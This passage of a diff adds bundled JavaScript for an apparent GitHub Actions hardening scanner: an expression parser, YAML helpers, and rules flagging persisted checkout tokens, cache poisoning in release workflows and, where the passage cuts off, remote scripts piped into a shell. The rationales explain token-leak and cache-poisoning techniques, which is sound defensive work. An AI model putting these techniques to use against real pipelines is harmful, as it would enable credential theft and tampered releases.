+  const out = [];
+  let from = 0;
+  while (out.length < MAX_EXPRESSIONS_PER_STRING) {
+    const start = text.indexOf("${{", from);
+    if (start < 0) break;
+    let i = start + 3;
+    let closedAt = -1;
+    while (i < text.length) {
+      const c = text[i];
+      if (c === "'") {
+        i++;
+        while (i < text.length) {
+          if (text[i] === "'") {
+            if (text[i + 1] === "'") i += 2;
+            else break;
+          } else i++;
+        }
+        i++;
+      } else if (c === "}" && text[i + 1] === "}") {
+        closedAt = i;
+        break;
+      } else i++;
+    }
+    if (closedAt < 0) {
+      out.push({ start, end: text.length, body: text.slice(start + 3), closed: false });
+      break;
+    }
+    out.push({ start, end: closedAt + 2, body: text.slice(start + 3, closedAt), closed: true });
+    from = closedAt + 2;
+  }
+  return out;
+}
+var PUNCT = ["==", "!=", "<=", ">=", "&&", "||", ".", "[", "]", "(", ")", ",", "*", "!", "<", ">"];
+var ExpressionSyntaxError = class extends Error {
+};
+function tokenize2(body) {
+  if (body.length > MAX_EXPRESSION_LENGTH) throw new ExpressionSyntaxError("expression is too long");
+  const tokens = [];
+  let i = 0;
+  while (i < body.length) {
+    if (tokens.length >= MAX_TOKENS) throw new ExpressionSyntaxError("expression has too many tokens");
+    const c = body[i];
+    if (/\s/.test(c)) {
+      i++;
+      continue;
+    }
+    if (c === "'") {
+      let value = "";
+      i++;
+      for (; ; ) {
+        if (i >= body.length) throw new ExpressionSyntaxError("unterminated string literal");
+        if (body[i] === "'") {
+          if (body[i + 1] === "'") {
+            value += "'";
+            i += 2;
+            continue;
+          }
+          i++;
+          break;
+        }
+        value += body[i];
+        i++;
+      }
+      tokens.push({ kind: "string", text: value, value });
+      continue;
+    }
+    const prev = tokens[tokens.length - 1];
+    const valueBefore = prev && (prev.kind !== "punct" || prev.text === ")" || prev.text === "]");
+    const numberMatch = /^(?:0x[0-9a-fA-F]+|\d+(?:\.\d+)?(?:[eE][+-]?\d+)?|\.\d+)/.exec(
+      c === "-" && !valueBefore ? body.slice(i + 1) : body.slice(i)
+    );
+    if (numberMatch && (/[0-9]/.test(c) || c === "." && !valueBefore || c === "-" && !valueBefore)) {
+      const length = numberMatch[0].length + (c === "-" ? 1 : 0);
+      const text = body.slice(i, i + length);
+      tokens.push({ kind: "number", text, value: Number(text) });
+      i += length;
+      continue;
+    }
+    const ident = /^[A-Za-z_][A-Za-z0-9_-]*/.exec(body.slice(i, i + 256));
+    if (ident) {
+      tokens.push({ kind: "ident", text: ident[0] });
+      i += ident[0].length;
+      continue;
+    }
+    const punct = PUNCT.find((p) => body.startsWith(p, i));
+    if (punct) {
+      tokens.push({ kind: "punct", text: punct });
+      i += punct.length;
+      continue;
+    }
+    throw new ExpressionSyntaxError(`unexpected character ${JSON.stringify(c)}`);
+  }
+  return tokens;
+}
+var Parser = class {
+  constructor(tokens) {
+    this.tokens = tokens;
+  }
+  tokens;
+  pos = 0;
+  parse() {
+    if (this.tokens.length === 0) throw new ExpressionSyntaxError("empty expression");
+    const expr = this.or(0);
+    if (this.pos < this.tokens.length) throw new ExpressionSyntaxError(`unexpected ${this.tokens[this.pos].text}`);
+    return expr;
+  }
+  peek(text) {
+    const t = this.tokens[this.pos];
+    return t !== void 0 && t.kind === "punct" && t.text === text;
+  }
+  expect(text) {
+    if (!this.peek(text)) throw new ExpressionSyntaxError(`expected ${text}`);
+    this.pos++;
+  }
+  binaryLevel(depth, ops, next) {
+    let left = next(depth + 1);
+    for (; ; ) {
+      const op = ops.find((o) => this.peek(o));
+      if (!op) return left;
+      this.pos++;
+      left = { kind: "binary", op, left, right: next(depth + 1) };
+    }
+  }
+  or(depth) {
+    this.guard(depth);
+    return this.binaryLevel(depth, ["||"], (d) => this.and(d));
+  }
+  and(depth) {
+    return this.binaryLevel(depth, ["&&"], (d) => this.equality(d));
+  }
+  equality(depth) {
+    return this.binaryLevel(depth, ["==", "!="], (d) => this.comparison(d));
+  }
+  comparison(depth) {
+    return this.binaryLevel(depth, ["<=", ">=", "<", ">"], (d) => this.unary(d));
+  }
+  unary(depth) {
+    this.guard(depth);
+    if (this.peek("!")) {
+      this.pos++;
+      return { kind: "not", operand: this.unary(depth + 1) };
+    }
+    return this.postfix(depth + 1);
+  }
+  postfix(depth) {
+    const base = this.primary(depth + 1);
+    const parts = [];
+    for (; ; ) {
+      if (this.peek(".")) {
+        this.pos++;
+        const t = this.tokens[this.pos];
+        if (t?.kind === "ident") parts.push(t.text.toLowerCase());
+        else if (t?.kind === "punct" && t.text === "*") parts.push("*");
+        else throw new ExpressionSyntaxError("expected a property name after .");
+        this.pos++;
+      } else if (this.peek("[")) {
+        this.pos++;
+        if (this.peek("*")) {
+          this.pos++;
+          parts.push("*");
+        } else {
+          const index = this.or(depth + 1);
+          parts.push(index.kind === "literal" && typeof index.value === "string" ? index.value.toLowerCase() : "*");
+        }
+        this.expect("]");
+      } else break;
+    }
+    if (parts.length === 0) return base;
+    if (base.kind === "context") return { kind: "context", parts: [...base.parts, ...parts] };
+    return { kind: "access", base, parts };
+  }
+  primary(depth) {
+    this.guard(depth);
+    const t = this.tokens[this.pos];
+    if (!t) throw new ExpressionSyntaxError("unexpected end of expression");
+    this.pos++;
+    if (t.kind === "string") return { kind: "literal", value: t.value };
+    if (t.kind === "number") return { kind: "literal", value: t.value };
+    if (t.kind === "ident") {
+      const lower = t.text.toLowerCase();
+      if (this.peek("(")) {
+        this.pos++;
+        const args = [];
+        if (!this.peek(")")) {
+          for (; ; ) {
+            args.push(this.or(depth + 1));
+            if (this.peek(",")) {
+              this.pos++;
+              continue;
+            }
+            break;
+          }
+        }
+        this.expect(")");
+        return { kind: "call", name: lower, args };
+      }
+      if (lower === "true" || lower === "false") return { kind: "literal", value: lower === "true" };
+      if (lower === "null") return { kind: "literal", value: null };
+      if (lower === "nan" || lower === "infinity") return { kind: "literal", value: Number(t.text) };
+      return { kind: "context", parts: [lower] };
+    }
+    if (t.text === "(") {
+      const inner = this.or(depth + 1);
+      this.expect(")");
+      return inner;
+    }
+    throw new ExpressionSyntaxError(`unexpected ${t.text}`);
+  }
+  guard(depth) {
+    if (depth > MAX_DEPTH) throw new ExpressionSyntaxError("expression nests too deeply");
+  }
+};
+function parseExpression(body) {
+  try {
+    return { ok: true, expr: new Parser(tokenize2(body)).parse() };
+  } catch (error2) {
+    if (error2 instanceof ExpressionSyntaxError) return { ok: false, error: error2.message };
+    throw error2;
+  }
+}
+var NON_FLOWING_FUNCTIONS = /* @__PURE__ */ new Set([
+  "contains",
+  "startswith",
+  "endswith",
+  "success",
+  "failure",
+  "always",
+  "cancelled",
+  "hashfiles"
+]);
+function flowingContexts(expr) {
+  switch (expr.kind) {
+    case "literal":
+      return [];
+    case "context":
+      return [expr.parts];
+    case "not":
+      return [];
+    case "binary":
+      return expr.op === "&&" || expr.op === "||" ? [...flowingContexts(expr.left), ...flowingContexts(expr.right)] : [];
+    case "call":
+      return NON_FLOWING_FUNCTIONS.has(expr.name) ? [] : expr.args.flatMap(flowingContexts);
+    case "access":
+      return flowingContexts(expr.base);
+  }
+}
+function valueLeaves(expr) {
+  switch (expr.kind) {
+    case "literal":
+    case "context":
+      return [expr];
+    case "not":
+      return [];
+    case "binary": {
+      if (expr.op !== "&&" && expr.op !== "||") return [];
+      const right = valueLeaves(expr.right);
+      const left = expr.op === "&&" && isBooleanish(expr.left) ? [] : valueLeaves(expr.left);
+      return left && right ? [...left, ...right] : void 0;
+    }
+    default:
+      return void 0;
+  }
+}
+function isBooleanish(expr) {
+  return expr.kind === "not" || expr.kind === "binary" && !["&&", "||"].includes(expr.op) || expr.kind === "call" && NON_FLOWING_FUNCTIONS.has(expr.name);
+}
+function calls(expr) {
+  switch (expr.kind) {
+    case "call":
+      return [{ name: expr.name, args: expr.args }, ...expr.args.flatMap(calls)];
+    case "not":
+      return calls(expr.operand);
+    case "binary":
+      return [...calls(expr.left), ...calls(expr.right)];
+    case "access":
+      return calls(expr.base);
+    default:
+      return [];
+  }
+}
+function pathText(parts) {
+  return parts.join(".");
+}
+function isWholeExpression(text) {
+  const found = findExpressions(text);
+  const first = found[0];
+  return found.length === 1 && first !== void 0 && first.closed && text.trim() === text.slice(first.start, first.end);
+}
+
+// src/checks/hardening/github-actions/model.ts
+var import_yaml3 = __toESM(require_dist(), 1);
 
 // src/core/yaml.ts
 var import_yaml = __toESM(require_dist(), 1);
@@ -35850,26 +42050,6770 @@ function documentToJS(doc2) {
   return doc2.toJS({ maxAliasCount: MAX_YAML_ALIAS_COUNT });
 }
 
-// src/checks/manifests/kubernetes/yaml-view.ts
+// src/checks/hardening/github-actions/yaml-nodes.ts
 var import_yaml2 = __toESM(require_dist(), 1);
+var MAX_ALIAS_HOPS = 16;
+var MAX_COLLECTION_ITEMS = 5e3;
+function deref(node, doc2) {
+  let current = node;
+  for (let hop = 0; hop < MAX_ALIAS_HOPS && (0, import_yaml2.isAlias)(current); hop++) current = current.resolve(doc2);
+  if ((0, import_yaml2.isAlias)(current) || current == null) return void 0;
+  return (0, import_yaml2.isMap)(current) || (0, import_yaml2.isSeq)(current) || (0, import_yaml2.isScalar)(current) ? current : void 0;
+}
+function asMap(node, doc2) {
+  const n = deref(node, doc2);
+  return (0, import_yaml2.isMap)(n) ? n : void 0;
+}
+function asSeq(node, doc2) {
+  const n = deref(node, doc2);
+  return (0, import_yaml2.isSeq)(n) ? n : void 0;
+}
+function asScalar(node, doc2) {
+  const n = deref(node, doc2);
+  return (0, import_yaml2.isScalar)(n) ? n : void 0;
+}
+function scalarText(node, doc2) {
+  const s = asScalar(node, doc2);
+  if (!s || s.value == null) return void 0;
+  const v = s.value;
+  return typeof v === "string" || typeof v === "number" || typeof v === "boolean" || typeof v === "bigint" ? String(v) : void 0;
+}
+function entries(map, doc2) {
+  if (!map) return [];
+  const out = [];
+  for (const pair2 of map.items.slice(0, MAX_COLLECTION_ITEMS)) {
+    const keyNode = deref(pair2.key, doc2);
+    if (!keyNode || !(0, import_yaml2.isScalar)(keyNode)) continue;
+    const keyValue = keyNode.value;
+    if (typeof keyValue !== "string" && typeof keyValue !== "number" && typeof keyValue !== "boolean") continue;
+    out.push({ key: String(keyValue), keyNode, value: deref(pair2.value, doc2) });
+  }
+  return out;
+}
+function get(map, key, doc2) {
+  return entries(map, doc2).find((e) => e.key === key);
+}
+function items(seq, doc2) {
+  if (!seq) return [];
+  const out = [];
+  for (const item of seq.items.slice(0, MAX_COLLECTION_ITEMS)) {
+    const n = deref(item, doc2);
+    if (n) out.push(n);
+  }
+  return out;
+}
+function stringList(node, doc2) {
+  const n = deref(node, doc2);
+  if (!n) return [];
+  if ((0, import_yaml2.isScalar)(n)) {
+    const text = scalarText(n, doc2);
+    return text === void 0 ? [] : [{ text, node: n }];
+  }
+  if ((0, import_yaml2.isSeq)(n)) {
+    return items(n, doc2).flatMap((item) => {
+      const text = scalarText(item, doc2);
+      return text === void 0 ? [] : [{ text, node: item }];
+    });
+  }
+  return [];
+}
+var MAX_WALK_NODES = 2e5;
+function walkScalars(node, doc2, visit) {
+  const seen = /* @__PURE__ */ new Set();
+  const stack = [{ node, path: [] }];
+  let budget = MAX_WALK_NODES;
+  while (stack.length > 0 && budget-- > 0) {
+    const { node: raw, path: path8 } = stack.pop();
+    const n = deref(raw, doc2);
+    if (!n || seen.has(n)) continue;
+    seen.add(n);
+    if ((0, import_yaml2.isScalar)(n)) {
+      if (typeof n.value === "string") visit(n, n.value, path8);
+    } else if ((0, import_yaml2.isMap)(n)) {
+      const list = entries(n, doc2);
+      for (let i = list.length - 1; i >= 0; i--) {
+        const e = list[i];
+        stack.push({ node: e.value, path: [...path8, e.key] });
+      }
+    } else if ((0, import_yaml2.isSeq)(n)) {
+      const list = n.items.slice(0, MAX_COLLECTION_ITEMS);
+      for (let i = list.length - 1; i >= 0; i--) stack.push({ node: list[i], path: [...path8, String(i)] });
+    }
+  }
+}
+function duplicateKeys(node, doc2) {
+  const out = [];
+  const seen = /* @__PURE__ */ new Set();
+  const stack = [{ node, path: [] }];
+  let budget = MAX_WALK_NODES;
+  while (stack.length > 0 && budget-- > 0) {
+    const { node: raw, path: path8 } = stack.pop();
+    const n = deref(raw, doc2);
+    if (!n || seen.has(n)) continue;
+    seen.add(n);
+    if ((0, import_yaml2.isMap)(n)) {
+      const keys = /* @__PURE__ */ new Set();
+      for (const e of entries(n, doc2)) {
+        if (keys.has(e.key)) out.push({ key: e.key, keyNode: e.keyNode, path: path8 });
+        keys.add(e.key);
+        stack.push({ node: e.value, path: [...path8, e.key] });
+      }
+    } else if ((0, import_yaml2.isSeq)(n)) {
+      n.items.slice(0, MAX_COLLECTION_ITEMS).forEach((item, i) => stack.push({ node: item, path: [...path8, String(i)] }));
+    }
+  }
+  return out.sort((a, b) => (a.keyNode.range?.[0] ?? 0) - (b.keyNode.range?.[0] ?? 0));
+}
+
+// src/checks/hardening/github-actions/model.ts
+var MAX_WORKFLOW_BYTES = 2 * 1024 * 1024;
+function isWorkflowPath(path8) {
+  return /(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/.test(path8);
+}
+function isActionPath(path8) {
+  return /(^|\/)action\.ya?ml$/.test(path8);
+}
+function loadWorkflow(path8, text) {
+  if (text.length > MAX_WORKFLOW_BYTES) {
+    return {
+      kind: "error",
+      message: `file is larger than ${MAX_WORKFLOW_BYTES} bytes and was not checked`,
+      position: { line: 1, column: 1 }
+    };
+  }
+  const parsed = parseYaml(text);
+  const doc2 = parsed.documents[0];
+  if (!doc2) return { kind: "skip" };
+  const error2 = firstYamlError(parsed, doc2);
+  if (error2) return { kind: "error", message: `invalid YAML: ${error2.message}`, position: error2.position };
+  const root = asMap(doc2.contents, doc2);
+  if (!root) return { kind: "skip" };
+  return isWorkflowPath(path8) ? loadWorkflowFile(path8, text, parsed, doc2, root) : loadActionFile(path8, text, parsed, doc2, root);
+}
+function loadWorkflowFile(path8, text, parsed, doc2, root) {
+  const jobsEntry = get(root, "jobs", doc2);
+  const jobsMap = asMap(jobsEntry?.value, doc2);
+  if (!jobsMap) return { kind: "skip" };
+  const on = get(root, "on", doc2) ?? entries(root, doc2).find((e) => e.key === "true" && isBooleanKey(e.keyNode));
+  const triggers = readTriggers(on, doc2);
+  const jobs = entries(jobsMap, doc2).flatMap((entry) => {
+    const node = asMap(entry.value, doc2);
+    return node ? [readJob(entry.key, entry.keyNode, node, doc2)] : [];
+  });
+  const model = {
+    kind: "workflow",
+    path: path8,
+    text,
+    parsed,
+    doc: doc2,
+    root,
+    triggers,
+    jobs,
+    inputs: readWorkflowInputs(triggers, doc2)
+  };
+  if (on) model.on = on;
+  const permissions = get(root, "permissions", doc2);
+  if (permissions) model.permissions = permissions;
+  const env = asMap(get(root, "env", doc2)?.value, doc2);
+  if (env) model.env = env;
+  return { kind: "model", model };
+}
+function isBooleanKey(node) {
+  return (0, import_yaml3.isScalar)(node) && typeof node.value === "boolean";
+}
+function loadActionFile(path8, text, parsed, doc2, root) {
+  const runs = asMap(get(root, "runs", doc2)?.value, doc2);
+  if (!runs) return { kind: "skip" };
+  const using = scalarText(get(runs, "using", doc2)?.value, doc2);
+  if (using?.toLowerCase() !== "composite") return { kind: "skip" };
+  const stepsEntry = get(runs, "steps", doc2);
+  const runsEntry = get(root, "runs", doc2);
+  const job = {
+    id: "runs",
+    keyNode: runsEntry.keyNode,
+    node: runs,
+    composite: true,
+    steps: readSteps(stepsEntry, doc2)
+  };
+  const inputs = /* @__PURE__ */ new Map();
+  for (const e of entries(asMap(get(root, "inputs", doc2)?.value, doc2), doc2)) inputs.set(e.key.toLowerCase(), "string");
+  return {
+    kind: "model",
+    model: { kind: "action", path: path8, text, parsed, doc: doc2, root, triggers: [], jobs: [job], inputs }
+  };
+}
+function readTriggers(on, doc2) {
+  if (!on?.value) return [];
+  const scalar = asScalar(on.value, doc2);
+  if (scalar) {
+    const name = scalarText(scalar, doc2);
+    return name ? [{ name, node: scalar }] : [];
+  }
+  const seq = asSeq(on.value, doc2);
+  if (seq) {
+    return items(seq, doc2).flatMap((item) => {
+      const name = scalarText(item, doc2);
+      return name ? [{ name, node: item }] : [];
+    });
+  }
+  return entries(asMap(on.value, doc2), doc2).map((e) => {
+    const trigger = { name: e.key, node: e.keyNode };
+    const config = asMap(e.value, doc2);
+    if (config) trigger.config = config;
+    return trigger;
+  });
+}
+function readWorkflowInputs(triggers, doc2) {
+  const inputs = /* @__PURE__ */ new Map();
+  for (const trigger of triggers) {
+    if (trigger.name !== "workflow_dispatch" && trigger.name !== "workflow_call") continue;
+    for (const e of entries(asMap(get(trigger.config, "inputs", doc2)?.value, doc2), doc2)) {
+      const declared = scalarText(get(asMap(e.value, doc2), "type", doc2)?.value, doc2)?.toLowerCase();
+      const type = declared === void 0 ? "string" : ["string", "boolean", "number", "choice", "environment"].find((t) => t === declared) ?? "unknown";
+      const name = e.key.toLowerCase();
+      const previous = inputs.get(name);
+      inputs.set(name, previous === void 0 || previous === type ? type : "string");
+    }
+  }
+  return inputs;
+}
+function readJob(id, keyNode, node, doc2) {
+  const job = { id, keyNode, node, composite: false, steps: readSteps(get(node, "steps", doc2), doc2) };
+  const permissions = get(node, "permissions", doc2);
+  if (permissions) job.permissions = permissions;
+  const runsOn = get(node, "runs-on", doc2);
+  if (runsOn) job.runsOn = runsOn;
+  const container = get(node, "container", doc2);
+  if (container) job.container = container;
+  const services = asMap(get(node, "services", doc2)?.value, doc2);
+  if (services) job.services = services;
+  const uses = stringValue(get(node, "uses", doc2)?.value, doc2);
+  if (uses) job.uses = uses;
+  const secrets = get(node, "secrets", doc2);
+  if (secrets) job.secrets = secrets;
+  const withMap = asMap(get(node, "with", doc2)?.value, doc2);
+  if (withMap) job.with = withMap;
+  const env = asMap(get(node, "env", doc2)?.value, doc2);
+  if (env) job.env = env;
+  const cond = get(node, "if", doc2);
+  if (cond) job.if = cond;
+  const matrix = get(asMap(get(node, "strategy", doc2)?.value, doc2), "matrix", doc2);
+  if (matrix) job.matrix = matrix;
+  return job;
+}
+function readSteps(stepsEntry, doc2) {
+  return items(asSeq(stepsEntry?.value, doc2), doc2).flatMap((item, index) => {
+    const node = asMap(item, doc2);
+    if (!node) return [];
+    const step = { index, node, label: "", with: /* @__PURE__ */ new Map() };
+    const uses = stringValue(get(node, "uses", doc2)?.value, doc2);
+    if (uses) step.uses = uses;
+    const run19 = stringValue(get(node, "run", doc2)?.value, doc2);
+    if (run19) step.run = run19;
+    for (const e of entries(asMap(get(node, "with", doc2)?.value, doc2), doc2)) {
+      const key = e.key.toLowerCase();
+      if (!step.with.has(key)) step.with.set(key, e);
+    }
+    const env = asMap(get(node, "env", doc2)?.value, doc2);
+    if (env) step.env = env;
+    const cond = get(node, "if", doc2);
+    if (cond) step.if = cond;
+    const id = scalarText(get(node, "id", doc2)?.value, doc2);
+    const name = scalarText(get(node, "name", doc2)?.value, doc2);
+    step.label = id ?? name ?? `#${index + 1}`;
+    return [step];
+  });
+}
+function stringValue(node, doc2) {
+  const scalar = asScalar(node, doc2);
+  const value = scalar ? scalarText(scalar, doc2) : void 0;
+  return scalar && value !== void 0 ? { value, node: scalar } : void 0;
+}
+function withText(step, name, doc2) {
+  return scalarText(step.with.get(name)?.value, doc2);
+}
+function usesTarget(uses) {
+  const at = uses.indexOf("@");
+  return (at >= 0 ? uses.slice(0, at) : uses).trim().toLowerCase();
+}
+function usesAction(step, ...names) {
+  if (!step.uses) return false;
+  const target = usesTarget(step.uses.value);
+  return names.some((name) => target === name || target.startsWith(`${name}/`));
+}
+
+// src/checks/hardening/github-actions/triggers.ts
+var PRIVILEGED_TRIGGERS = ["pull_request_target", "workflow_run"];
+var PUBLIC_TRIGGERS = [
+  "pull_request",
+  "pull_request_target",
+  "pull_request_review",
+  "pull_request_review_comment",
+  "issue_comment",
+  "issues",
+  "discussion",
+  "discussion_comment",
+  "fork",
+  "watch"
+];
+function privilegedTriggers(workflow) {
+  return workflow.triggers.filter((t) => PRIVILEGED_TRIGGERS.includes(t.name)).map((t) => t.name);
+}
+function releaseTrigger(workflow) {
+  for (const t of workflow.triggers) {
+    if (t.name === "release") return "release";
+    if (t.name === "push" && t.config) {
+      const tags = get(t.config, "tags", workflow.doc);
+      if (tags && (asSeq(tags.value, workflow.doc) || tags.value)) return "push of tags";
+    }
+  }
+  return void 0;
+}
+
+// src/checks/hardening/github-actions/artipacked.ts
+var rule = {
+  id: "gha/artipacked",
+  check: "hardening",
+  title: "Checkout persists the token where it can leak",
+  severity: "medium",
+  description: "Reports `actions/checkout` steps without `persist-credentials: false` in workflows that upload artifacts (`actions/upload-artifact`, `actions/upload-pages-artifact`; medium) or that run with a privileged trigger, `pull_request_target` or `workflow_run` (high). An expression as the value is taken as the author's deliberate choice and not reported.",
+  rationale: "`actions/checkout` writes the job's `GITHUB_TOKEN` into `.git/config` by default so later `git` commands can push. Any step that uploads the workspace (a build directory containing `.git`, a tarball of the checkout) publishes the token in a downloadable artifact (\"ArtiPACKED\"), and any code that runs later in the job, including the pull request's code in privileged workflows, can read it from disk.",
+  fix: "Do not persist the credentials; pass a token explicitly to the one step that pushes, if any:\n\n```yaml\n- uses: actions/checkout@<sha>\n  with:\n    persist-credentials: false\n```",
+  references: [
+    `${ZIZMOR_AUDITS}#artipacked`,
+    "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",
+    GITHUB_HARDENING
+  ]
+};
+var UPLOADERS = ["actions/upload-artifact", "actions/upload-pages-artifact"];
+function run(workflow) {
+  const doc2 = workflow.doc;
+  const uploads = workflow.jobs.some((j) => j.steps.some((s) => usesAction(s, ...UPLOADERS)));
+  const privileged3 = privilegedTriggers(workflow);
+  if (!uploads && privileged3.length === 0) return [];
+  const reason = privileged3.length > 0 ? `the workflow runs on ${privileged3.map((t) => `\`${t}\``).join(" and ")}` : "the workflow uploads artifacts";
+  const findings = [];
+  for (const job of workflow.jobs) {
+    for (const step of job.steps) {
+      if (!step.uses || !usesAction(step, "actions/checkout")) continue;
+      const persist = step.with.get("persist-credentials");
+      const value = scalarText(persist?.value, doc2)?.trim().toLowerCase();
+      if (value === "false" || value?.includes("${{")) continue;
+      findings.push(
+        makeFinding(workflow, rule, {
+          severity: privileged3.length > 0 ? "high" : "medium",
+          message: `Step ${step.label} of job ${job.id} checks out with the token persisted in .git/config, and ${reason}.`,
+          span: nodeSpan(workflow, persist?.value ?? step.uses.node),
+          job,
+          key: stepKey(job, step),
+          fix: "Add `persist-credentials: false` under the checkout step's `with:`."
+        })
+      );
+    }
+  }
+  return findings;
+}
+var artipacked = { rule, run };
+
+// src/checks/hardening/github-actions/script.ts
+var MAX_SCRIPT_LINES = 1e4;
+var MAX_LOGICAL_LINE = 2e4;
+function logicalLines(script) {
+  const out = [];
+  let text = "";
+  let offsets = [];
+  let lineStart = 0;
+  let count = 0;
+  while (lineStart <= script.length && count++ < MAX_SCRIPT_LINES) {
+    let lineEnd = script.indexOf("\n", lineStart);
+    if (lineEnd < 0) lineEnd = script.length;
+    let line = script.slice(lineStart, lineEnd);
+    if (line.endsWith("\r")) line = line.slice(0, -1);
+    const commentAt = commentStart(line);
+    const code3 = commentAt >= 0 ? line.slice(0, commentAt) : line;
+    const continued = commentAt < 0 && /\\$/.test(code3);
+    const kept = continued ? code3.slice(0, -1) : code3;
+    if (text.length + kept.length <= MAX_LOGICAL_LINE) {
+      for (let i = 0; i < kept.length; i++) offsets.push(lineStart + i);
+      text += kept;
+    }
+    if (!continued) {
+      if (text.trim() !== "") out.push({ text, offsets });
+      text = "";
+      offsets = [];
+    } else {
+      offsets.push(lineEnd);
+      text += " ";
+    }
+    lineStart = lineEnd + 1;
+  }
+  if (text.trim() !== "") out.push({ text, offsets });
+  return out;
+}
+function commentStart(line) {
+  let quote2;
+  for (let i = 0; i < line.length; i++) {
+    const c = line[i];
+    if (quote2) {
+      if (c === "\\" && quote2 === '"') i++;
+      else if (c === quote2) quote2 = void 0;
+    } else if (c === '"' || c === "'") quote2 = c;
+    else if (c === "\\") i++;
+    else if (c === "#" && (i === 0 || /\s/.test(line[i - 1]))) return i;
+  }
+  return -1;
+}
+function scriptOffset(line, index) {
+  return line.offsets[index] ?? line.offsets[line.offsets.length - 1] ?? 0;
+}
+
+// src/checks/hardening/github-actions/cache-poisoning.ts
+var rule2 = {
+  id: "gha/cache-poisoning",
+  check: "hardening",
+  title: "Release workflow restores a cache",
+  severity: "high",
+  description: "Reports steps that restore a GitHub Actions cache in workflows that ship something: triggered by `release` or by a push of tags, or that publish (known publishing actions such as `pypa/gh-action-pypi-publish`, `softprops/action-gh-release`, `goreleaser/goreleaser-action`, `docker/build-push-action` with `push: true`, or scripts running `npm publish`, `twine upload`, `cargo publish`, `docker push`, `gh release create`\u2026).\n\nCache restorers: `actions/cache` (and `actions/cache/restore`), `actions/setup-node|python|java|dotnet` with `cache:`, `actions/setup-go` (v4+ caches by default), `astral-sh/setup-uv` unless `enable-cache: false`, `Swatinem/rust-cache`, `gradle/actions/setup-gradle` unless `cache-disabled: true`, `ruby/setup-ruby` with `bundler-cache: true`, and `docker/build-push-action` with `cache-from: type=gha`.",
+  rationale: "Caches are shared between workflows of the repository: a cache entry written by a pull request workflow (or by any code that ran with the cache token, e.g. through an injection bug) can later be restored by the release workflow. Poisoned dependencies or build outputs in that cache end up in the published package or image, signed and attested as if they were built from the tagged source.",
+  fix: 'Build releases from a clean state: drop the cache from release jobs, or disable it explicitly:\n\n```yaml\non:\n  push:\n    tags: ["v*"]\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@<sha>\n        with:\n          persist-credentials: false\n      - uses: actions/setup-go@<sha>\n        with:\n          go-version-file: go.mod\n          cache: false          # no cache in the release build\n```',
+  references: [
+    `${ZIZMOR_AUDITS}#cache-poisoning`,
+    "https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/",
+    GITHUB_HARDENING
+  ]
+};
+var PUBLISH_ACTIONS = [
+  "pypa/gh-action-pypi-publish",
+  "softprops/action-gh-release",
+  "ncipollo/release-action",
+  "goreleaser/goreleaser-action",
+  "js-devtools/npm-publish",
+  "actions/create-release",
+  "rubygems/release-gem"
+];
+var PUBLISH_COMMANDS = /\b(?:(?:npm|yarn|pnpm|poetry|uv|flit|hatch|cargo)\s+publish|twine\s+upload|(?:docker|podman)\s+(?:image\s+)?push|gem\s+push|dotnet\s+nuget\s+push|gh\s+release\s+(?:create|upload)|goreleaser\s+release|crane\s+push)\b/;
+var PUBLISH_GOALS = [
+  [/\bmvnw?\b/, /\bdeploy\b/],
+  [/\bgradlew?\b/, /\bpublish\w*/]
+];
+function publishingScript(script) {
+  return logicalLines(script).some(
+    (line) => PUBLISH_COMMANDS.test(line.text) || PUBLISH_GOALS.some(([tool, goal]) => tool.test(line.text) && goal.test(line.text))
+  );
+}
+function publishes(step, workflow) {
+  if (usesAction(step, ...PUBLISH_ACTIONS)) return true;
+  if (usesAction(step, "docker/build-push-action", "docker/bake-action"))
+    return withText(step, "push", workflow.doc)?.trim().toLowerCase() === "true";
+  return step.run !== void 0 && publishingScript(step.run.value);
+}
+var FALSY = /* @__PURE__ */ new Set(["false", "", "0"]);
+function restoresCache(step, workflow) {
+  if (!step.uses) return void 0;
+  const doc2 = workflow.doc;
+  const input = (name) => withText(step, name, doc2)?.trim().toLowerCase();
+  const at = (name) => step.with.get(name)?.value ?? step.uses.node;
+  if (usesAction(step, "actions/cache", "swatinem/rust-cache", "mozilla-actions/sccache-action")) return step.uses.node;
+  if (usesAction(step, "actions/setup-node", "actions/setup-python", "actions/setup-java", "actions/setup-dotnet")) {
+    const cache3 = input("cache");
+    return cache3 !== void 0 && !FALSY.has(cache3) ? at("cache") : void 0;
+  }
+  if (usesAction(step, "actions/setup-go")) {
+    const cache3 = input("cache");
+    const major = /@v(\d+)/i.exec(step.uses.value)?.[1];
+    if (cache3 !== void 0) return FALSY.has(cache3) ? void 0 : at("cache");
+    return major !== void 0 && Number(major) < 4 ? void 0 : step.uses.node;
+  }
+  if (usesAction(step, "astral-sh/setup-uv")) return input("enable-cache") === "false" ? void 0 : step.uses.node;
+  if (usesAction(step, "gradle/actions", "gradle/gradle-build-action"))
+    return /setup-gradle|gradle-build-action/i.test(step.uses.value) && input("cache-disabled") !== "true" ? step.uses.node : void 0;
+  if (usesAction(step, "ruby/setup-ruby")) return input("bundler-cache") === "true" ? at("bundler-cache") : void 0;
+  if (usesAction(step, "docker/build-push-action", "docker/bake-action"))
+    return /type=gha/.test(input("cache-from") ?? "") ? at("cache-from") : void 0;
+  return void 0;
+}
+function run2(workflow) {
+  if (workflow.kind !== "workflow") return [];
+  const trigger = releaseTrigger(workflow);
+  const publisher = trigger ? void 0 : workflow.jobs.flatMap((j) => j.steps).find((s) => publishes(s, workflow));
+  if (!trigger && !publisher) return [];
+  const why = trigger ? `runs on ${trigger}` : `publishes (step ${publisher.label})`;
+  const findings = [];
+  for (const job of workflow.jobs) {
+    for (const step of job.steps) {
+      const node = restoresCache(step, workflow);
+      if (!node) continue;
+      findings.push(
+        makeFinding(workflow, rule2, {
+          message: `Step ${step.label} of job ${job.id} restores a cache in a workflow that ${why}: a poisoned cache entry would end up in the release.`,
+          span: nodeSpan(workflow, node),
+          job,
+          key: stepKey(job, step),
+          fix: "Remove the cache from this workflow or disable it for the release build (e.g. `cache: false`)."
+        })
+      );
+    }
+  }
+  return findings;
+}
+var cachePoisoning = { rule: rule2, run: run2 };
+
+// src/checks/hardening/github-actions/curl-pipe-shell.ts
+var rule3 = {
+  id: "gha/curl-pipe-shell",
+  check: "hardening",
+  title: "Remote script piped into a shell",
+  severity: "medium",
